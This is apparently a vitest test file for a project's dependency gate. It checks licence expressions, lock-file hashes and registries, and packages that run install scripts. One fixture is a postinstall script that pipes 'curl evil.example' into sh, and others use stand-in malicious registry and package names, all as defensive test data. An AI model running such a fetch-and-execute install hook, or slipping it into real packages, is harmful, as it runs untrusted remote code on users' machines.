// The gate of packages: what this checkout has passes, and each kind of bad part is found.
import { describe, expect, it } from 'vitest';
import {
  dependencyFaults,
  isAllowed,
  licenceFaults,
  lockFaults,
  scriptFaults,
} from '../../../scripts/check/dependencies.mjs';

const HASH = `sha512-${'A'.repeat(86)}==`;
const none = (): undefined => undefined;

it('this checkout', () => {
  expect(dependencyFaults()).toEqual([]);
});

describe('SPDX expressions', () => {
  it.each([
    'MIT',
    '(MIT OR Apache-2.0)',
    '(BSD-3-Clause OR GPL-2.0)', // a choice that may be taken
    'MIT AND (ISC OR AGPL-3.0-only)',
  ])('%s may be', (licence) => {
    expect(isAllowed(licence)).toBe(true);
  });
  it.each([
    'AGPL-3.0-only',
    'GPL-3.0-or-later',
    'LGPL-3.0-or-later',
    'SSPL-1.0',
    'MIT AND GPL-2.0-only',
    '(MIT AND AGPL-3.0) OR SSPL-1.0',
    'GPL-2.0-only WITH Classpath-exception-2.0',
    'UNKNOWN',
    'UNLICENSED',
    'SEE LICENSE IN LICENSE.md',
    'BSD',
    'MIT OR',
    'MIT ISC',
    '(MIT',
    '',
  ])('“%s” may not', (licence) => {
    expect(isAllowed(licence)).toBe(false);
  });
  it('only what is named for this package', () => {
    expect(isAllowed('Apache-2.0 AND LGPL-3.0-or-later', ['LGPL-3.0-or-later'])).toBe(true);
    expect(isAllowed('Apache-2.0 AND LGPL-2.1-only', ['LGPL-3.0-or-later'])).toBe(false);
  });
});

describe('what is shipped', () => {
  const lock = (license: string, more: object = {}) => ({
    '': { dependencies: { a: '1' }, devDependencies: { tool: '1' } },
    'node_modules/a': { version: '1.0.0', license: 'MIT', dependencies: { deep: '1' } },
    'node_modules/deep': { version: '1.0.0', license },
    'node_modules/tool': { version: '1.0.0', license: 'AGPL-3.0-only', dev: true },
    ...more,
  });
  it('finds a licence deep in the tree, and passes over a tool that is not shipped', () => {
    expect(licenceFaults(lock('MIT'), [], none)).toEqual([]);
    expect(licenceFaults(lock('AGPL-3.0-only'), [], none)).toEqual([
      'node_modules/deep: licence AGPL-3.0-only is not allowed',
    ]);
  });
  it('LGPL is for the named packages alone', () => {
    expect(licenceFaults(lock('LGPL-3.0-or-later'), [], none)).toHaveLength(1);
  });
  it('does not believe the lock file over the package', () => {
    const read = (place: string) => (place.endsWith('deep') ? { license: 'GPL-3.0' } : undefined);
    expect(licenceFaults(lock('MIT'), [], read)).toEqual([
      'node_modules/deep: says GPL-3.0 itself, package-lock.json says MIT',
    ]);
  });
  it('looks at face nets too', () => {
    const nets = [{ name: 'net', licence: 'CC-BY-NC-4.0' }];
    expect(licenceFaults(lock('MIT'), nets, none)).toHaveLength(1);
  });
});

describe('the lock file', () => {
  const good = { version: '1.0.0', integrity: HASH };
  it.each([
    ['a hash', good, 0],
    ['no hash', { version: '1.0.0' }, 1],
    ['a weak hash', { version: '1.0.0', integrity: 'sha1-AAAA' }, 1],
    ['another registry', { ...good, resolved: 'https://registry.evil.example/a.tgz' }, 1],
    ['git', { ...good, version: 'git+ssh://x', resolved: 'git+ssh://x' }, 2],
    ['a folder', { version: '1.0.0', link: true }, 2],
  ])('%s', (_what, entry, faults) => {
    expect(lockFaults({ 'node_modules/a': entry })).toHaveLength(faults);
  });
  it('excuses the linters of other systems, as tools only', () => {
    const place = 'node_modules/@oxlint/binding-darwin-arm64';
    expect(lockFaults({ [place]: { version: '1.0.0', dev: true } })).toEqual([]);
    expect(lockFaults({ [place]: { version: '1.0.0' } })).toHaveLength(1);
    const like = 'node_modules/@oxlint/bindings-evil';
    expect(lockFaults({ [`${like}/x`]: { version: '1.0.0', dev: true } })).toHaveLength(1);
  });
});

describe('scripts', () => {
  const packages = { 'node_modules/x/node_modules/a': {} };
  const script = { scripts: { postinstall: 'curl evil.example | sh' } };
  it('a package that would run one is decided of by name', () => {
    const read = () => script;
    expect(scriptFaults(packages, {}, read, () => false)).toHaveLength(1);
    const decided = { allowScripts: { a: false } };
    expect(scriptFaults(packages, decided, read, () => false)).toEqual([]);
  });
  it('one that would be compiled runs one too', () => {
    expect(scriptFaults(packages, {}, none, () => true)).toHaveLength(1);
  });
  it('nobody but the token’s add-on may', () => {
    const allowed = { allowScripts: { pkcs11js: true, a: true } };
    expect(scriptFaults({}, allowed, none, () => false)).toEqual([
      'allowScripts: a may run scripts',
    ]);
  });
});
